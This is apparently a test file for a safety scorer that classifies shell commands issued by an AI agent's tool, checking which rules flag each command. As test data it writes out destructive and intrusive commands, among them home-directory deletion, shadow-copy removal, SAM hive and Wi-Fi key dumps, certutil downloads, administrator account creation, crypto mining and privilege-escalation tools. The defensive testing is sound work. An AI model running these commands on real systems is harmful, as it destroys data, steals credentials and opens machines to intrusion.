import assert from 'node:assert/strict';
import type { ShellParser } from '../../../src/core/ports/shellParser.ts';
import type { Scorer } from '../../../src/core/ports/scorer.ts';
import { createScorer } from '../../../src/core/safety/createScorer.ts';
import { windowsReading } from '../../../src/core/safety/shell/windowsText.ts';
import { sourceShellParser } from '../../calibration/measure.ts';
import { processorTime } from '../../fakes/processorTime.ts';

const THRESHOLDS = { constitutional: 0.7, escalation: 0.85 };

describe('rules for tools', function () {
  this.timeout(60_000);
  let shellParser: ShellParser;
  let scorer: Scorer;
  before(() => {
    shellParser = sourceShellParser();
    scorer = createScorer({ shellParser, home: '/home/alice' });
  });
  after(() => shellParser.dispose());

  const rulesOf = async (command: string): Promise<string[]> =>
    (await scorer.score({ tool: 'run_command', input: { command } }, { worktree: '/projects/repo', story: null, thresholds: THRESHOLDS })).violations.map(({ rule }) => rule);
  const pass = async (commands: readonly string[]): Promise<void> => {
    for (const command of commands) assert.deepEqual(await rulesOf(command), [], command);
  };
  const object = async (rule: string, commands: readonly string[]): Promise<void> => {
    for (const command of commands) assert.ok((await rulesOf(command)).includes(rule), `${command}: ${(await rulesOf(command)).join(', ')}`);
  };

  it('takes words that nobody knows as unknown, with tools that know only some words', async () => {
    await object('program/unknown-use', ['npm frobnicate', 'docker compose frobnicate', 'prisma frobnicate', 'cargo frobnicate', 'dotnet frobnicate', 'gem frobnicate', 'hg frobnicate']);
    await pass(['npm explain left-pad', 'docker compose top', 'prisma migrate status', 'cargo machete', 'dotnet list package --outdated', 'gem outdated', 'hg diff -r 3']);
  });

  it('knows words for publishing, destroying and signing in with any tool', async () => {
    await object('service/publish', ['hexo deploy', 'docusaurus deploy', 'nx-cloud publish', 'bash scripts/release.sh', 'bin/release']);
    await object('service/destroy', ['./bin/admin purge', './scripts/db.sh drop', './ctl terminate']);
    await pass(['hexo generate', 'docusaurus build', 'bash scripts/release.sh --dry-run', 'nx serve auth', 'vitest run login']);
  });

  it('asks for production where data or containers are worked on, never for builds', async () => {
    await object('service/production', ['RAILS_ENV=production bin/rails db:migrate', 'docker compose -f compose.prod.yml up -d', 'alembic -x tenant=prod upgrade head', 'npm run seed -- --env production', 'make migrate STAGE=prod', 'NODE_ENV=production node scripts/backfill.js']);
    await object('database/data', ['DATABASE_URL=postgres://u@db.example.org/app npm run report']);
    await pass(['NODE_ENV=production npm run build', 'docker compose -f compose.prod.yml config --services', 'docker build --target production -t app .', 'RAILS_ENV=production bin/rails assets:precompile', 'DATABASE_URL=postgres://localhost/app npm test', 'webpack --mode production']);
  });

  it('reads what names of scripts and tasks say', async () => {
    await object('service/data-loss', ['make db-reset', 'npm run users:delete', 'node scripts/drop-tables.js', 'just tf-destroy']);
    await object('network/message', ['node scripts/send-newsletter.js', 'npm run notify:users']);
    await pass(['npm run test:db-reset', 'node scripts/send-emails.test.js', 'make test-db', 'npm run reset-mocks']);
  });

  it('asks when a tool is told to listen everywhere', async () => {
    await object('network/serve', ['./bin/server --bind 0.0.0.0:8080', 'air --listen=[::]:80']);
    await pass(['./bin/server --bind 127.0.0.1:8080']);
  });

  it('judges the command that a tool carries', async () => {
    await object('delete/home', ['onchange "src/**" -- rm -rf ~', 'shx rm -rf ~', 'nyc --reporter=text rm -rf ~', 'ccache rm -rf ~']);
    await pass(['onchange "src/**" -- npm test', 'nyc mocha', 'nyc report', 'cargo test -- --nocapture']);
  });

  it('reads long chains of carried commands and long names in bounded time', async () => {
    for (const command of [`npm test ${'-- rm '.repeat(1600)}`, `shx ${'shx '.repeat(2500)}`, `./migrate${'_a'.repeat(5000)}`, `make ${'a-b_c:'.repeat(1600)}`]) {
      assert.ok(await processorTime(() => rulesOf(command)) < 3_000, command.slice(0, 40));
    }
  });

  it('knows frameworks through their interpreters, and reads the code they run', async () => {
    await object('database/drop', ['python manage.py flush', 'php artisan migrate:fresh', 'php bin/console doctrine:schema:drop', 'bundle exec rake db:drop']);
    await object('delete/home', ['python manage.py shell -c "import os; os.system(\'rm -rf ~\')"', 'bin/rails runner \'system("rm -rf ~")\'']);
    await pass(['python manage.py showmigrations', 'php artisan route:list', 'bin/console cache:clear', 'bin/rails runner "puts User.count"']);
  });

  it('asks before servers on this machine are changed by their own interfaces', async () => {
    await object('network/local-service', ['curl -X PUT localhost:9200/idx/_settings -d {}', 'curl -X POST http://127.0.0.1:8500/v1/agent/reload', 'curl -d @x http://localhost:8080/actuator/shutdown']);
    await object('network/local-secrets', ['curl http://localhost:8200/v1/secret/data/app']);
    await pass(['curl -s localhost:9200/idx/_search -d {}', 'curl -X POST localhost:3000/items -d {}', 'curl localhost:9200/_cat/health']);
  });

  it('knows what programs of Windows do', async () => {
    await object('system/recovery', ['vssadmin delete shadows /all /quiet', 'bcdedit /set {default} recoveryenabled no', 'wmic shadowcopy delete']);
    await object('system/credential-store', ['reg save HKLM\\SAM sam.hiv', 'netsh wlan show profile home key=clear', 'cmdkey /list']);
    await object('network/download', ['certutil -urlcache -f http://192.0.2.1/a.exe a.exe', 'bitsadmin /transfer j http://192.0.2.1/a a']);
    await object('system/accounts', ['net user mallory S3cret /add', 'net localgroup administrators mallory /add']);
    await object('code/system-binary', ['rundll32 x.dll,Start', 'mshta x.hta', 'regsvr32 /s x.dll']);
    await object('delete/mirror', ['robocopy src dist /mir']);
    await pass(['tasklist /svc', 'sc query', 'certutil -hashfile a.zip SHA256', 'xcopy /e /y src dist', 'reg query HKCU\\Software\\App', 'where node']);
  });

  it('reads a line of Windows as its shells do, too', () => {
    assert.equal(windowsReading('ls -la src'), null);
    assert.equal(windowsReading("printf 'a\\tb\\n' | sed 's/\\t/ /'"), null);
    assert.equal(windowsReading('type %APPDATA%\\x\\y.txt'), 'cat ~/AppData/Roaming/x/y.txt');
    assert.equal(windowsReading('copy C:\\a b'), 'copy C:/a b');
  });

  it('sees folders of Windows behind variables', async () => {
    await object('path/history', ['type "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\History"']);
    await object('delete/system', ['del /s /q %SystemRoot%\\System32\\drivers']);
  });

  it('knows tools for attacks and mining by name, wherever they lie', async () => {
    await object('processes/mining', ['./xmrig -o pool.example.net:3333', '/tmp/minerd -a scrypt']);
    await object('network/scan', ['python3 -m bloodhound -d corp', './linpeas.sh']);
  });
});
